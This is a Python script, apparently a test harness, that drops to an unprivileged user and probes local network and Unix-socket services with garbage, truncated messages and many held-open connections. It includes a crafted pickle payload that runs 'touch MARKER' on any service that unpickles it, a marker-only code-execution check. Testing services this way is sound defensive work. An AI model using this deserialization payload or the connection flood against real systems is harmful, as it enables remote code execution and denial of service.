"""A program that attacks what listens, as another user of this machine where it is started as root.

::

    python stranger.py MARKER TARGETS

``TARGETS`` is a JSON list: ``["tcp", [host, port]]``, ``["tcp6", [host, port]]``, or ``["unix", path]`` with ``@``
before an abstract name. To each it sends garbage, prefixes, half messages, and pickles that would create the file
``MARKER`` where they are opened; then it opens many connections, prints as JSON which targets let it in, and keeps the
connections until its input ends.
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import socket
import struct
import sys
from collections.abc import Iterator
from typing import Any

TIMEOUT = 2.0  # seconds
MANY = 100  # connections to each target, that stay open
MOST = 800  # in all
NOBODY = 65534


def words(marker: str) -> Iterator[bytes]:
    """What is sent, each over a connection of its own."""
    opened = b"cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR."
    yield b""
    yield b"\0"
    yield b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"
    yield bytes(2**16)
    yield random.Random(0).randbytes(2**18)
    yield struct.pack("<Q", 2**40) + b"half a message"
    yield struct.pack("!i", 2**30) + b"half a message"
    yield opened
    for number in (b"", struct.pack("<Q", 1), bytes(32) + struct.pack("<Q", 1)):
        yield number + struct.pack("<Q", len(opened)) + opened
    yield struct.pack("!i", len(opened)) + opened
    for kind in range(8):
        yield struct.pack("<BQ", kind, len(opened)) + opened


def connect(family: str, address: Any) -> socket.socket:
    kinds = {"tcp": socket.AF_INET, "tcp6": socket.AF_INET6, "unix": socket.AF_UNIX}
    sock = socket.socket(kinds[family])
    sock.settimeout(TIMEOUT)
    try:
        if isinstance(address, list):
            sock.connect((address[0], address[1]))
        else:
            sock.connect("\0" + address[1:] if address.startswith("@") else address)
    except OSError:
        sock.close()
        raise
    return sock


def attack(family: str, address: Any, marker: str) -> bool:
    """Send everything; return whether any connection was made."""
    entered = False
    for word in words(marker):
        try:
            with connect(family, address) as sock:
                entered = True
                sock.sendall(word)
                sock.settimeout(0.05)
                sock.recv(4096)
        except OSError:
            continue
    return entered


def main(marker: str, targets: list[tuple[str, Any]]) -> None:
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    entered = [target for target in targets if attack(*target, marker)]
    kept: list[socket.socket] = []
    for target in entered:
        with contextlib.suppress(OSError):
            for _ in range(min(MANY, MOST - len(kept))):
                kept.append(connect(*target))
    print(json.dumps(entered), flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main(sys.argv[1], json.loads(sys.argv[2]))
